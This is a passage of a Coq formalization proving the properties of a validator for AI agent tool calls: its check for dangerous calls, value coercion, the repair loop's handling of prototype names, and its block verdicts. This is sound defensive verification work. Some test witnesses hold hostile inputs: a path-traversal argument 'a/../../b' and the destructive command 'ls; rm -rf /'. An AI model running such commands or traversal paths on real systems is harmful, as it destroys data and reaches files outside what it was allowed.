  dangerous (checkDangerousCall toolName params) = true /\
  (forall s, RegExp.test Patterns.dot_dot_slash s = true <-> contains s "../").
Proof.
  intros Hkey Hget Hcontains. split; [|exact test_dot_dot_slash].
  destruct (check_rules_fires dangerousPatterns toolName params)
    as (rule & regex & _ & _ & _ & Hc).
  - exists (mkDangerRule "*" key [Patterns.dot_dot_slash]). split.
    + destruct Hkey as [-> | ->]; cbn; auto.
    + split; [now left|]. exists value, Patterns.dot_dot_slash.
      split; [exact Hget|]. split; [now left|]. now apply test_dot_dot_slash.
  - unfold checkDangerousCall. now rewrite Hc.
Qed.

Lemma checkDangerousCall_path_traversal_witness :
  dangerous (checkDangerousCall "write_file"
               [("content", JString "x"); ("file", JString "a/../../b")]) = true /\
  (forall s, RegExp.test Patterns.dot_dot_slash s = true <-> contains s "../").
Proof.
  apply (checkDangerousCall_path_traversal "write_file"
           [("content", JString "x"); ("file", JString "a/../../b")]
           "file" "a/../../b").
  - now right.
  - reflexivity.
  - now exists "a/", "../b".
Defined.

(** X8. A call is never flagged when none of the arguments [path], [file]
    and [query], nor [command] for the tool [bash], is a string: other
    arguments, other types of value, and [command] for any other tool are
    not looked at. *)
Theorem checkDangerousCall_ignores_the_rest (toolName : string)
    (params : JSObject) :
  no_inspected_string toolName params ->
  checkDangerousCall toolName params = mkDangerCheck false None.
Proof.
  intros Hnone. unfold checkDangerousCall.
  destruct (check_rules_sound dangerousPatterns toolName params)
    as [Hsafe | (rule & regex & Hin & Hf & _)]; [exact Hsafe|].
  exfalso. destruct Hf as (Htool & value & re & Hget & _).
  apply (Hnone (rule_param rule) value); [|exact Hget].
  cbn in Hin. destruct Hin as [<-|[<-|[<-|[<-|[]]]]]; cbn in *.
  - right. split; [reflexivity|]. destruct Htool as [Ht|Ht]; [discriminate Ht | now symmetry].
  - left. now left.
  - left. right. now left.
  - left. right. right. now left.
Qed.

Lemma checkDangerousCall_ignores_the_rest_witness :
  checkDangerousCall "shell"
    [("command", JString "ls; rm -rf /"); ("path", JArray [JString "../x"])]
  = mkDangerCheck false None.
Proof.
  apply checkDangerousCall_ignores_the_rest.
  intros key value [[<-|[<-|[<-|[]]]] | [_ Hbash]]; discriminate.
Defined.

(* ------------------------------------------------------------------------- *)
(** ** coerceValue: what a coercion gives *)
(* ------------------------------------------------------------------------- *)

(** Either nothing is coerced and the value comes back as it is, or a value
    of the target type comes back. *)
Lemma coerceValue_cases (value : JSValue) (expectedType : string) :
  coerceValue value expectedType = mkCoercion value false \/
  (coerced (coerceValue value expectedType) = true /\
   has_type (coerced_value (coerceValue value expectedType)) expectedType = true).
Proof.
  unfold coerceValue, has_type.
  destruct (String.eqb expectedType "string");
    [destruct value; cbn; auto|].
  destruct (String.eqb expectedType "number" || String.eqb expectedType "integer").
  { destruct value; cbn; auto.
    destruct (JsNumber.isNaN (JsNumber.of_string s)) eqn:E; cbn; auto.
    right. now rewrite E. }
  destruct (String.eqb expectedType "boolean").
  { destruct value; cbn; auto.
    destruct (_ || _ || _); cbn; auto. destruct (_ || _ || _); cbn; auto. }
  destruct (String.eqb expectedType "array").
  { destruct value; cbn [coerce_array]; auto.
    destruct (success (tryParseJson (JString s))
              && Value.isArray (parsed (tryParseJson (JString s)))) eqn:E.
    - apply andb_prop in E as [_ E]. cbn. auto.
    - destruct (JsString.includes s ","); cbn; auto. }
  destruct (String.eqb expectedType "object").
  { destruct value; cbn [coerce_object]; auto.
    destruct (success (tryParseJson (JString s))
              && Value.is_object (parsed (tryParseJson (JString s)))) eqn:E.
    - apply andb_prop in E as [_ E]. cbn. auto.
    - cbn. auto. }
  destruct value; auto.
Qed.

(** A value of the target type is not coerced. *)
Lemma coerceValue_has_type (value : JSValue) (expectedType : string) :
  has_type value expectedType = true ->
  coerceValue value expectedType = mkCoercion value false.
Proof.
  unfold coerceValue, has_type.
  destruct (String.eqb expectedType "string");
    [destruct value; cbn; congruence|].
  destruct (String.eqb expectedType "number" || String.eqb expectedType "integer");
    [destruct value; cbn; congruence|].
  destruct (String.eqb expectedType "boolean");
    [destruct value; cbn; congruence|].
  destruct (String.eqb expectedType "array");
    [destruct value; cbn; congruence|].
  destruct (String.eqb expectedType "object");
    [destruct value; cbn; congruence|].
  discriminate.
Qed.

(** X9. [coerceValue] never changes a value without saying so: when it
    reports nothing coerced, the value it returns is the one it was given;
    [undefined] and [null] are never coerced, nor is any value for a type
    name outside the six the function knows. *)
Theorem coerceValue_unchanged_unless_coerced (value : JSValue)
    (expectedType : string) :
  (coerced (coerceValue value expectedType) = false ->
   coerced_value (coerceValue value expectedType) = value) /\
  coerceValue JUndefined expectedType = mkCoercion JUndefined false /\
  coerceValue JNull expectedType = mkCoercion JNull false /\
  (~ In expectedType ["string"; "number"; "integer"; "boolean"; "array"; "object"] ->
   coerceValue value expectedType = mkCoercion value false).
Proof.
  split; [|split; [reflexivity | split; [reflexivity|]]].
  - destruct (coerceValue_cases value expectedType) as [-> | [Hc _]];
      [reflexivity | congruence].
  - intros Hnot. unfold coerceValue.
    destruct (String.eqb_spec expectedType "string") as [->|_];
      [exfalso; apply Hnot; cbn; auto|].
    destruct (String.eqb_spec expectedType "number") as [->|_];
      [exfalso; apply Hnot; cbn; auto|].
    destruct (String.eqb_spec expectedType "integer") as [->|_];
      [exfalso; apply Hnot; cbn; auto|].
    destruct (String.eqb_spec expectedType "boolean") as [->|_];
      [exfalso; apply Hnot; cbn; auto 6|].
    destruct (String.eqb_spec expectedType "array") as [->|_];
      [exfalso; apply Hnot; cbn; auto 7|].
    destruct (String.eqb_spec expectedType "object") as [->|_];
      [exfalso; apply Hnot; cbn; auto 8|].
    now destruct value.
Qed.

Lemma coerceValue_unchanged_unless_coerced_witness :
  coerced_value (coerceValue (JString "soon") "boolean") = JString "soon" /\
  coerceValue (JString "5") "float" = mkCoercion (JString "5") false.
Proof.
  destruct (coerceValue_unchanged_unless_coerced (JString "soon") "boolean")
    as (Hsame & _).
  destruct (coerceValue_unchanged_unless_coerced (JString "5") "float")
    as (_ & _ & _ & Hother).
  split.
  - apply Hsame. reflexivity.
  - apply Hother. cbn. intros [E|[E|[E|[E|[E|[E|[]]]]]]]; discriminate E.
Defined.

(** X10. When [coerceValue] reports a coercion, the value it returns has
    the target type: a string, a number that is not [NaN], a boolean, an
    array, or an object or array; and a value that has the target type is
    left as it is. *)
Theorem coerceValue_gives_target_type (value : JSValue) (expectedType : string) :
  (coerced (coerceValue value expectedType) = true ->
   has_type (coerced_value (coerceValue value expectedType)) expectedType = true) /\
  (has_type value expectedType = true ->
   coerceValue value expectedType = mkCoercion value false).
Proof.
  split; [|apply coerceValue_has_type].
  destruct (coerceValue_cases value expectedType) as [-> | [_ Ht]];
    [discriminate | intros _; exact Ht].
Qed.

Lemma coerceValue_gives_target_type_witness :
  has_type (coerced_value (coerceValue (JString "a,b") "array")) "array" = true /\
  coerceValue (JNumber 5) "integer" = mkCoercion (JNumber 5) false.
Proof.
  split.
  - apply (proj1 (coerceValue_gives_target_type (JString "a,b") "array")).
    reflexivity.
  - apply (proj2 (coerceValue_gives_target_type (JNumber 5) "integer")).
    reflexivity.
Defined.

(** X11. Coercion is idempotent: applied to its own result, for the same
    type, [coerceValue] coerces nothing more. *)
Theorem coerceValue_idempotent (value : JSValue) (expectedType : string) :
  coerceValue (coerced_value (coerceValue value expectedType)) expectedType
  = mkCoercion (coerced_value (coerceValue value expectedType)) false.
Proof.
  destruct (coerceValue_cases value expectedType) as [Hsame | [_ Ht]].
  - rewrite Hsame. cbn [coerced_value]. exact Hsame.
  - now apply coerceValue_has_type.
Qed.

(* ------------------------------------------------------------------------- *)
(** ** The repair loop keeps the shape of the arguments *)
(* ------------------------------------------------------------------------- *)

Module ObjFacts.

Lemma get_set_same (obj : JSObject) (key : string) (v : JSValue) :
  Obj.get (Obj.set obj key v) key = v.
Proof.
  induction obj as [|[k v'] obj IH]; cbn.
  - now rewrite String.eqb_refl.
  - destruct (String.eqb k key) eqn:E; cbn; rewrite E; [reflexivity | exact IH].
Qed.

Lemma get_set_other (obj : JSObject) (key key' : string) (v : JSValue) :
  key <> key' -> Obj.get (Obj.set obj key v) key' = Obj.get obj key'.
Proof.
  intros Hne. induction obj as [|[k v'] obj IH]; cbn.
  - destruct (String.eqb_spec key key'); [congruence | reflexivity].
  - destruct (String.eqb_spec k key) as [->|Hk]; cbn.
    + destruct (String.eqb_spec key key'); [congruence | reflexivity].
    + destruct (String.eqb k key'); [reflexivity | exact IH].
Qed.

(** The object has a property of its own exactly under its names. *)
Lemma has_keys (obj : JSObject) (key : string) :
  Obj.has obj key = true <-> In key (keys obj).
Proof.
  unfold keys. induction obj as [|[k v] obj IH]; cbn; [split; [discriminate | tauto]|].
  rewrite orb_true_iff, IH, String.eqb_eq. tauto.
Qed.

Lemma has_false (obj : JSObject) (key : string) :
  Obj.has obj key = false <-> ~ In key (keys obj).
Proof.
  rewrite <- has_keys. destruct (Obj.has obj key); split; congruence.
Qed.

Lemma get_absent (obj : JSObject) (key : string) :
  Obj.has obj key = false -> Obj.get obj key = JUndefined.
Proof.
  induction obj as [|[k v] obj IH]; cbn; [reflexivity|].
  destruct (String.eqb k key); cbn; [discriminate | exact IH].
Qed.

(** Writing a property keeps the names, or adds the new one at the end. *)
Lemma keys_set (obj : JSObject) (key : string) (v : JSValue) :
  keys (Obj.set obj key v)
  = if Obj.has obj key then keys obj else keys obj ++ [key].
Proof.
  unfold keys. induction obj as [|[k v'] obj IH]; cbn; [reflexivity|].
  destruct (String.eqb k key); cbn; [reflexivity|].
  rewrite IH. now destruct (Obj.has obj key).
Qed.

(** For a name that [Object.prototype] does not define, a lookup finds the
    property of the object itself and nothing else. *)
Lemma lookup_get (obj : JSObject) (key : string) :
  key <> "__proto__" -> ObjectPrototype.method key = None ->
  Obj.lookup obj key = Obj.get obj key.
Proof.
  intros Hproto Hmethod. unfold Obj.lookup. rewrite Hmethod.
  destruct (Obj.has obj key) eqn:Hhas; [reflexivity|].
  destruct (String.eqb_spec key "__proto__"); [contradiction|].
  symmetry. now apply get_absent.
Qed.

(** The danger rules read the arguments under names that [Object.prototype]
    does not define. *)
Lemma lookup_rule_param (params : JSObject) (rule : DangerRule) :
  In rule dangerousPatterns ->
  Obj.lookup params (rule_param rule) = Obj.get params (rule_param rule).
Proof.
  intros Hin. apply lookup_get;
    cbn in Hin; decompose [or] Hin; subst; try contradiction;
    cbn; first [discriminate | reflexivity].
Qed.

End ObjFacts.

(** A function is coerced for the type [string] only, to its text. *)
Lemma coerceValue_function (name expectedType : string) :
  coerceValue (JFunction name) expectedType
  = if String.eqb expectedType "string"
    then mkCoercion (JString (Value.toString (JFunction name))) true
    else mkCoercion (JFunction name) false.
Proof.
  unfold coerceValue.
  destruct (String.eqb expectedType "string"); [reflexivity|].
  destruct (String.eqb expectedType "number" || String.eqb expectedType "integer");
    [reflexivity|].
  destruct (String.eqb expectedType "boolean"); [reflexivity|].
  destruct (String.eqb expectedType "array"); [reflexivity|].
  destruct (String.eqb expectedType "object"); reflexivity.
Qed.

(** The prototype that the getter of [__proto__] answers is coerced for
    the type [string] only, to a string: the setter of [__proto__] never
    gets an object from the loop. *)
Lemma coerceValue_prototype (expectedType : string) :
  coerceValue ObjectPrototype.self expectedType
  = if String.eqb expectedType "string"
    then mkCoercion (JString "[object Object]") true
    else mkCoercion ObjectPrototype.self false.
Proof.
  unfold coerceValue, ObjectPrototype.self.
  destruct (String.eqb expectedType "string"); [reflexivity|].
  destruct (String.eqb expectedType "number" || String.eqb expectedType "integer");
    [reflexivity|].
  destruct (String.eqb expectedType "boolean"); [reflexivity|].
  destruct (String.eqb expectedType "array"); [reflexivity|].
  destruct (String.eqb expectedType "object"); reflexivity.
Qed.

(** The turn of the loop that leaves the working copy as it is. *)
Ltac unchanged :=
  cbn [fst snd]; split; [now left|]; split; [reflexivity|]; split; [now split|];
  split; [now intros -> | trivial].

(** One turn of the loop keeps the names of the arguments in place and adds
    at most the name of the property, when the arguments lack it and it
    names a function of [Object.prototype]; it touches no argument but the
    one of the property, and raises [anyCoerced] when it changes anything.
    Without such a name it leaves a missing argument missing. *)
Lemma coerce_property_shape (repaired : JSObject) (anyCoerced : bool)
    (entry : string * PropertySchema) :
  let after := coerce_property (repaired, anyCoerced) entry in
  (keys (fst after) = keys repaired \/
   exists name,
     Obj.has repaired (fst entry) = false /\
     ObjectPrototype.method (fst entry) = Some name /\
     keys (fst after) = keys repaired ++ [fst entry] /\
     Obj.get (fst after) (fst entry) = JString (Value.toString (JFunction name))) /\
  (forall key, key <> fst entry -> Obj.get (fst after) key = Obj.get repaired key) /\
  ((Obj.has repaired (fst entry) = false -> ObjectPrototype.method (fst entry) = None) ->
   keys (fst after) = keys repaired /\
   forall key, Obj.get repaired key = JUndefined ->
               Obj.get (fst after) key = JUndefined) /\
  (snd after = false -> after = (repaired, false)) /\
  (anyCoerced = true -> snd after = true).
Proof.
  cbv zeta. destruct entry as [name prop]. unfold coerce_property. cbn [fst snd].
  destruct (prop_type prop) as [type|]; [|unchanged].
  destruct (negb (String.eqb type "")); [|unchanged].
  unfold Obj.lookup, Obj.assign.
  destruct (Obj.has repaired name) eqn:Hhas; cbn [negb andb].
  - (* the arguments have the property *)
    destruct (Obj.get repaired name) eqn:Hget; try unchanged;
      destruct (coerced (coerceValue _ type)); try unchanged; cbn [fst snd];
      (split; [left; now rewrite ObjFacts.keys_set, Hhas|]);
      (split; [intros key Hne; apply ObjFacts.get_set_other; congruence|]);
      (split; [intros _; split; [now rewrite ObjFacts.keys_set, Hhas|];
               intros key Hk; rewrite ObjFacts.get_set_other; [exact Hk | congruence]|]);
      (split; [discriminate | reflexivity]).
  - destruct (String.eqb name "__proto__") eqn:Hproto.
    + (* the getter and the setter of the prototype *)
      unfold ObjectPrototype.self.
      destruct (coerced (coerceValue (JObject []) type)); [|unchanged].
      cbn [fst snd]. split; [now left|]. split; [reflexivity|].
      split; [now split|]. split; [discriminate | reflexivity].
    + destruct (ObjectPrototype.method name) as [fname|] eqn:Hmethod;
        [|unchanged].
      (* a function of the prototype *)
      rewrite coerceValue_function.
      destruct (String.eqb type "string"); cbn [coerced coerced_value];
        [|unchanged].
      cbn [fst snd]. split.
      * right. exists fname. split; [reflexivity|]. split; [reflexivity|].
        split; [now rewrite ObjFacts.keys_set, Hhas | apply ObjFacts.get_set_same].
      * split; [intros key Hne; apply ObjFacts.get_set_other; congruence|].
        split; [intros Hnone; specialize (Hnone eq_refl); discriminate Hnone|].
        split; [discriminate | reflexivity].
Qed.

Lemma coerce_properties_shape (properties : Properties) :
  forall repaired anyCoerced,
    let after := fold_left coerce_property properties (repaired, anyCoerced) in
    (exists added,
       keys (fst after) = keys repaired ++ added /\
       forall key, In key added ->
         In key (List.map fst properties) /\ Obj.has repaired key = false /\
         exists name,
           ObjectPrototype.method key = Some name /\
           (NoDup (List.map fst properties) ->
            Obj.get (fst after) key = JString (Value.toString (JFunction name)))) /\
    (forall key, ~ In key (List.map fst properties) ->
                 Obj.get (fst after) key = Obj.get repaired key) /\
    ((forall key, In key (List.map fst properties) ->
                  Obj.has repaired key = false -> ObjectPrototype.method key = None) ->
     keys (fst after) = keys repaired /\
     forall key, Obj.get repaired key = JUndefined ->
                 Obj.get (fst after) key = JUndefined) /\
    (snd after = false -> after = (repaired, false)) /\
    (anyCoerced = true -> snd after = true).
Proof.
  induction properties as [|entry properties IH]; intros repaired anyCoerced.
  - cbn. split; [exists []; split; [now rewrite app_nil_r | intros key []]|].
    split; [reflexivity|]. split; [now split|].
    split; [|trivial]. intros Hf. now rewrite (surjective_pairing (_, _)), Hf.
  - cbn [fold_left]. cbv zeta.
    pose proof (coerce_property_shape repaired anyCoerced entry) as Hstep.
    cbv zeta in Hstep.
    destruct (coerce_property (repaired, anyCoerced) entry) as [rep' any'] eqn:Hcp.
    cbn [fst snd] in Hstep. destruct Hstep as (Hk & Ho & Hu & Hf & Ht).
    specialize (IH rep' any'). cbv zeta in IH.
    destruct IH as ((added & Hk' & Hadded) & Ho' & Hu' & Hf' & Ht').
    cbn [List.map].
    assert (Hgrow : forall key, Obj.has rep' key = false ->
                                Obj.has repaired key = false).
    { intros key Hkey. apply ObjFacts.has_false. apply ObjFacts.has_false in Hkey.
      intros Hin. apply Hkey.
      destruct Hk as [-> | (_ & _ & _ & -> & _)]; [exact Hin|].
      apply in_or_app. now left. }
    split; [|split; [|split; [|split]]].
    + destruct Hk as [Hk | (fname & Hhas & Hmethod & Hk & Hget)].
      * exists added. split; [congruence|].
        intros key Hin. destruct (Hadded key Hin) as (Hdecl & Hnot & name & Hm & Hv).
        split; [now right|]. split; [now apply Hgrow|].
        exists name. split; [exact Hm|].
        intros Hnodup. apply Hv. now inversion Hnodup.
      * exists (fst entry :: added). split.
        { rewrite Hk', Hk, <- app_assoc. reflexivity. }
        intros key [<- | Hin].
        { split; [now left|]. split; [exact Hhas|].
          exists fname. split; [exact Hmethod|].
          intros Hnodup. inversion Hnodup as [|? ? Hfresh _]; subst.
          now rewrite Ho'. }
        destruct (Hadded key Hin) as (Hdecl & Hnot & name & Hm & Hv).
        split; [now right|]. split; [now apply Hgrow|].
        exists name. split; [exact Hm|].
        intros Hnodup. apply Hv. now inversion Hnodup.
    + intros key Hnot. rewrite Ho'; [apply Ho|]; intros Hin; apply Hnot; cbn; auto.
    + intros Hall.
      destruct Hu as [Hsame Hmiss]; [intros Hhas; apply Hall; [now left | exact Hhas]|].
      destruct Hu' as [Hsame' Hmiss'].
      { intros key Hin Hhas. apply Hall; [now right|]. now apply Hgrow. }
      split; [congruence|]. intros key Hkey. apply Hmiss'. now apply Hmiss.
    + intros Hfalse. destruct any'.
      * rewrite Ht' in Hfalse by reflexivity. discriminate.
      * rewrite (Hf' Hfalse). now apply Hf.
    + intros Hany. apply Ht'. now apply Ht.
Qed.

Section RepairFacts.
Context `{TypeBox}.
Variable cfg : PluginConfig.

(** The repaired arguments are the copy the loop made, over the properties
    the schema declares. *)
Lemma validate_schema_repaired_copy (params : JSObject)
    (schema : option ToolSchema) (errs : list string) (rep : JSObject) :
  validate_schema cfg params schema = (errs, Some rep) ->
  coercion_enabled cfg = true /\
  coerce_properties (declared_properties schema) params = (rep, true).
Proof.
  unfold validate_schema, declared_properties, coercion_enabled.
  destruct schema as [tool_schema|]; [|discriminate].
  destruct (schema_parameters tool_schema) as [parameters|]; [|discriminate].
  destruct (Value_Check parameters params); [discriminate|].
  unfold attempt_repair. fold (properties_of parameters).
  destruct (repairStrategy cfg) as [[]|]; try discriminate;
    destruct (coerce_properties (properties_of parameters) params)
      as [repaired' anyCoerced];
    destruct anyCoerced; cbn [andb]; try discriminate;
    destruct (Value_Check parameters repaired'); try discriminate;
    intros [= _ <-]; now split.
Qed.

Lemma validateToolCall_repaired_copy (toolName : string) (params : JSObject)
    (schema : option ToolSchema) (rep : JSObject) :
  repaired (validateToolCall cfg toolName params schema) = Some rep ->
  coercion_enabled cfg = true /\
  coerce_properties (declared_properties schema) params = (rep, true).
Proof.
  unfold validateToolCall.
  destruct (not_false (blockDangerousCalls cfg)
            && dangerous (checkDangerousCall toolName params)); [discriminate|].
  destruct (validate_schema cfg params schema) as [errs rep'] eqn:Hv.
  destruct (Nat.ltb 0 (List.length errs) && truthy (blockOnValidationFailure cfg));
    cbn [repaired]; intros ->; exact (validate_schema_repaired_copy _ _ _ _ Hv).
Qed.

End RepairFacts.

(** X12. A repair keeps the arguments in place.  The names of the
    repaired arguments are those of the original ones, in the same order,
    followed by the names the loop added: each of them is a property the
    schema declares, that the original arguments lack, and that names a
    function of [Object.prototype], which the loop reads through
    [repaired[key]]; with property names that are distinct, as the
    entries of an object are, the argument added is the text of that
    function.  An argument the schema declares no property for keeps its
    value.  When no declared property that the arguments lack names such a
    function, the repaired arguments have the names of the original ones
    and an argument that is missing stays missing. *)
Theorem validateToolCall_repair_keeps_shape `{TypeBox} (cfg : PluginConfig)
    (toolName : string) (params : JSObject) (schema : option ToolSchema)
    (rep : JSObject) :
  repaired (validateToolCall cfg toolName params schema) = Some rep ->
  (exists added,
     keys rep = keys params ++ added /\
     forall key, In key added ->
       In key (List.map fst (declared_properties schema)) /\
       ~ In key (keys params) /\
       exists name,
         ObjectPrototype.method key = Some name /\
         (NoDup (List.map fst (declared_properties schema)) ->
          Obj.get rep key
          = JString ("function " ++ name ++ "() { [native code] }"))) /\
  (forall key, ~ In key (List.map fst (declared_properties schema)) ->
               Obj.get rep key = Obj.get params key) /\
  ((forall key, In key (List.map fst (declared_properties schema)) ->
                ~ In key (keys params) -> ObjectPrototype.method key = None) ->
   keys rep = keys params /\
   forall key, Obj.get params key = JUndefined -> Obj.get rep key = JUndefined).
Proof.
  intros Hrep.
  destruct (validateToolCall_repaired_copy cfg toolName params schema rep Hrep)
    as [_ Hcopy].
  pose proof (coerce_properties_shape (declared_properties schema) params false)
    as Hshape.
  cbv zeta in Hshape. fold (coerce_properties (declared_properties schema) params)
    in Hshape.
  rewrite Hcopy in Hshape. cbn [fst snd] in Hshape.
  destruct Hshape as ((added & Hk & Hadded) & Ho & Hu & _ & _).
  split; [|split; [exact Ho|]].
  - exists added. split; [exact Hk|].
    intros key Hin. destruct (Hadded key Hin) as (Hdecl & Hnot & name & Hm & Hv).
    split; [exact Hdecl|]. split; [now apply ObjFacts.has_false|].
    exists name. split; [exact Hm | exact Hv].
  - intros Hall. apply Hu. intros key Hin Hhas. apply Hall; [exact Hin|].
    now apply ObjFacts.has_false.
Qed.

Lemma validateToolCall_repair_keeps_shape_witness :
  (keys [("count", JNumber 5); ("note", JString "7")]
   = keys [("count", JString "5"); ("note", JString "7")] /\
   forall key,
     Obj.get [("count", JString "5"); ("note", JString "7")] key = JUndefined ->
     Obj.get [("count", JNumber 5); ("note", JString "7")] key = JUndefined) /\
  (exists added,
     keys [("x", JNumber 5);
           ("toString", JString "function toString() { [native code] }")]
     = keys [("x", JString "5")] ++ added /\
     forall key, In key added ->
       In key (List.map fst (@declared_properties SimpleSchema.typebox
                               (Some Samples.to_string_schema))) /\
       ~ In key (keys [("x", JString "5")]) /\
       exists name,
         ObjectPrototype.method key = Some name /\
         (NoDup (List.map fst (@declared_properties SimpleSchema.typebox
                                 (Some Samples.to_string_schema))) ->
          Obj.get [("x", JNumber 5);
                   ("toString", JString "function toString() { [native code] }")] key
          = JString ("function " ++ name ++ "() { [native code] }"))).
Proof.
  split.
  - apply (@validateToolCall_repair_keeps_shape SimpleSchema.typebox default_config
             "search" [("count", JString "5"); ("note", JString "7")]
             (Some Samples.count_schema)).
    + vm_compute. reflexivity.
    + intros key [<- | []] _. reflexivity.
  - apply (@validateToolCall_repair_keeps_shape SimpleSchema.typebox default_config
             "show" [("x", JString "5")] (Some Samples.to_string_schema)).
    vm_compute. reflexivity.
Defined.

(* ------------------------------------------------------------------------- *)
(** ** validateToolCall: the other verdicts *)
(* ------------------------------------------------------------------------- *)

Section VerdictFacts.
Context `{TypeBox}.
Variable cfg : PluginConfig.

(** The reason of a danger check that fires is there and is the error. *)
Lemma danger_error_reason (toolName : string) (params : JSObject) :
  dangerous (checkDangerousCall toolName params) = true ->
  exists why, reason (checkDangerousCall toolName params) = Some why /\
              danger_error (checkDangerousCall toolName params) = why.
Proof.
  unfold checkDangerousCall.
  destruct (check_rules_sound dangerousPatterns toolName params)
    as [-> | (rule & regex & _ & _ & _ & ->)]; [discriminate|].
  intros _. eexists. split; reflexivity.
Qed.

End VerdictFacts.

(** X13. A call that the danger check does not refuse and that passes the
    schema, or has none, gets the clean verdict: valid, without errors,
    repaired arguments, block or reason. *)
Theorem validateToolCall_valid_call `{TypeBox} (cfg : PluginConfig)
    (toolName : string) (params : JSObject) (schema : option ToolSchema) :
  not_false (blockDangerousCalls cfg)
  && dangerous (checkDangerousCall toolName params) = false ->
  passes_schema params schema = true ->
  validateToolCall cfg toolName params schema
  = mkValidationResult true [] None false None.
Proof.
  intros Hsafe Hpass. unfold validateToolCall. rewrite Hsafe.
  unfold validate_schema. unfold passes_schema in Hpass.
  destruct schema as [tool_schema|]; [|reflexivity].
  destruct (schema_parameters tool_schema) as [parameters|]; [|reflexivity].
  now rewrite Hpass.
Qed.

Lemma validateToolCall_valid_call_witness :
  @validateToolCall SimpleSchema.typebox Samples.strict_config "search"
    [("count", JNumber 3)] (Some Samples.count_schema)
  = mkValidationResult true [] None false None.
Proof.
  apply (@validateToolCall_valid_call SimpleSchema.typebox); reflexivity.
Defined.

(** X14. With a repair strategy other than [coerce], [validateToolCall]
    never repairs: no verdict carries repaired arguments, and a call that
    the danger check does not refuse and that fails the schema keeps the
    errors of the schema. *)
Theorem validateToolCall_other_strategies `{TypeBox} (cfg : PluginConfig)
    (toolName : string) (params : JSObject) (schema : option ToolSchema) :
  coercion_enabled cfg = false ->
  repaired (validateToolCall cfg toolName params schema) = None /\
  (forall tool_schema parameters,
     schema = Some tool_schema ->
     schema_parameters tool_schema = Some parameters ->
     not_false (blockDangerousCalls cfg)
     && dangerous (checkDangerousCall toolName params) = false ->
     Value_Check parameters params = false ->
     errors (validateToolCall cfg toolName params schema)
     = schema_errors parameters params).
Proof.
  intros Hoff. split.
  - destruct (repaired (validateToolCall cfg toolName params schema)) as [rep|] eqn:Hrep;
      [|reflexivity].
    destruct (validateToolCall_repaired_copy cfg toolName params schema rep Hrep)
      as [Hon _]. congruence.
  - intros tool_schema parameters -> Hp Hsafe Hfail.
    rewrite validateToolCall_not_dangerous by exact Hsafe. cbv zeta.
    unfold validate_schema. rewrite Hp, Hfail. unfold attempt_repair.
    unfold coercion_enabled in Hoff.
    destruct (repairStrategy cfg) as [[]|]; try discriminate Hoff; reflexivity.
Qed.

Lemma validateToolCall_other_strategies_witness :
  repaired (@validateToolCall SimpleSchema.typebox
              (mkPluginConfig None (Some Prompt) None None None None None None)
              "search" [("count", JString "5")] (Some Samples.count_schema)) = None /\
  (forall tool_schema parameters,
     Some Samples.count_schema = Some tool_schema ->
     schema_parameters tool_schema = Some parameters ->
     not_false None && dangerous (checkDangerousCall "search" [("count", JString "5")])
     = false ->
     @Value_Check SimpleSchema.typebox parameters [("count", JString "5")] = false ->
     errors (@validateToolCall SimpleSchema.typebox
               (mkPluginConfig None (Some Prompt) None None None None None None)
               "search" [("count", JString "5")] (Some Samples.count_schema))
     = @schema_errors SimpleSchema.typebox parameters [("count", JString "5")]).
Proof.
  apply (@validateToolCall_other_strategies SimpleSchema.typebox
           (mkPluginConfig None (Some Prompt) None None None None None None)
           "search" [("count", JString "5")] (Some Samples.count_schema)).
  reflexivity.
Defined.

(** X15. A blocked verdict is never valid and always has errors and a
    reason; it is blocked by the danger check or under
    [blockOnValidationFailure], and by nothing else.  A verdict that is not
    blocked has no reason.  A verdict is valid exactly when it has no
    errors. *)
Theorem validateToolCall_blocked_verdict `{TypeBox} (cfg : PluginConfig)
    (toolName : string) (params : JSObject) (schema : option ToolSchema) :
  let r := validateToolCall cfg toolName params schema in
  (blocked r = true ->
   valid r = false /\ errors r <> [] /\
   (exists why, blockReason r = Some why) /\
   (not_false (blockDangerousCalls cfg)
    && dangerous (checkDangerousCall toolName params) = true
    \/ truthy (blockOnValidationFailure cfg) = true)) /\
  (blocked r = false -> blockReason r = None) /\
  (valid r = true <-> errors r = []).
Proof.
  cbv zeta.
  destruct (not_false (blockDangerousCalls cfg)
            && dangerous (checkDangerousCall toolName params)) eqn:Hdanger.
  - unfold validateToolCall. rewrite Hdanger. cbn.
    apply andb_prop in Hdanger as [_ Hd].
    destruct (danger_error_reason toolName params Hd) as (why & Hwhy & _).
    split; [|split; [discriminate | split; discriminate]].
    intros _. split; [reflexivity|]. split; [discriminate|].
    split; [now exists why | now left].
  - rewrite validateToolCall_not_dangerous by exact Hdanger. cbv zeta.
    destruct (fst (validate_schema cfg params schema)) as [|e errs]; cbn.
    + split; [discriminate|]. split; [reflexivity|]. now split.
    + destruct (truthy (blockOnValidationFailure cfg)); cbn.
      * split; [|split; [discriminate | split; discriminate]].
        intros _. split; [reflexivity|]. split; [discriminate|].
        split; [eexists; reflexivity | now right].
      * split; [discriminate|]. split; [reflexivity | split; discriminate].
Qed.

Lemma validateToolCall_blocked_verdict_witness :
  let r := @validateToolCall SimpleSchema.typebox Samples.blocking_config
             "greet" [] (Some Samples.name_schema) in
  valid r = false /\ errors r <> [] /\
  (exists why, blockReason r = Some why) /\
  (not_false (blockDangerousCalls Samples.blocking_config)
   && dangerous (checkDangerousCall "greet" []) = true
   \/ truthy (blockOnValidationFailure Samples.blocking_config) = true).
Proof.
  apply (@validateToolCall_blocked_verdict SimpleSchema.typebox Samples.blocking_config
           "greet" [] (Some Samples.name_schema)).
  vm_compute. reflexivity.
Defined.

(* ------------------------------------------------------------------------- *)
(** ** The hooks over time *)
(* ------------------------------------------------------------------------- *)

(** X16. The fuzzy match is advisory: the decision of the handler and the
    statistics it leaves are the same whatever tools are known and whatever
    the settings of the fuzzy match, and the handler never changes the set
    of known tools. *)
Theorem before_tool_call_fuzzy_is_advisory `{TypeBox} (cfg : PluginConfig)
    (state : PluginState) (event : ToolCallEvent) :
  (forall tools allow limit,
     let r := before_tool_call (with_fuzzy_settings cfg allow limit)
                (mkPluginState tools (stats state)) event in
     decision_of r = decision_of (before_tool_call cfg state event) /\
     stats_of r = stats_of (before_tool_call cfg state event)) /\
  availableTools (fst (fst (before_tool_call cfg state event)))
  = availableTools state.
Proof.
  split.
  - intros tools allow limit. cbv zeta. rewrite !before_tool_call_unfolded. cbv zeta.
    cbn [blockDangerousCalls with_fuzzy_settings stats].
    now destruct (not_false (blockDangerousCalls cfg)
                  && dangerous (checkDangerousCall (toolName event) (params event))).
  - rewrite before_tool_call_unfolded. cbv zeta.
    now destruct (not_false (blockDangerousCalls cfg)
